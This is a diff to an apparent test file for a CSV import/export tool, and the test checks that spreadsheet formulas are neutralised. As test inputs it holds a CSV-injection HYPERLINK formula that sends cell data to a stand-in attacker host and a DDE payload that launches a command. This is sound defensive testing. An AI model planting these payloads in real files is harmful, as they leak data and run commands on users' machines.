@@ -50,7 +50,7 @@ def test_formulas_are_neutralised_in_every_csv_cell(calm, tmp_path):
     link = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")'
     write_csv(tmp_path / "in.csv", [run_row(practice_id=link, practice_title="+cmd|'/c calc'!A0")])
     assert calm("import", str(tmp_path / "in.csv")).stdout == (
-        "Added 1 client, 1 practice and 2 ratings.\n"
+        "Added 1 client (Anna), 1 practice and 2 ratings.\n"
     )
     assert calm("export", "--all", "-o", str(tmp_path / "out.csv")).returncode == 0
     rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(), newline="")))
@@ -59,5 +59,6 @@ def test_formulas_are_neutralised_in_every_csv_cell(calm, tmp_path):
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     # Taken back in, it is the same practice: nothing is added twice.
     assert calm("import", str(tmp_path / "out.csv")).stdout == (
-        "Added 0 clients, 0 practices and 0 ratings (1 practice already here).\n"
+        "Added 0 clients, 0 practices and 0 ratings (1 practice already here). Brought in "
+        "for Anna, already here.\n"
     )
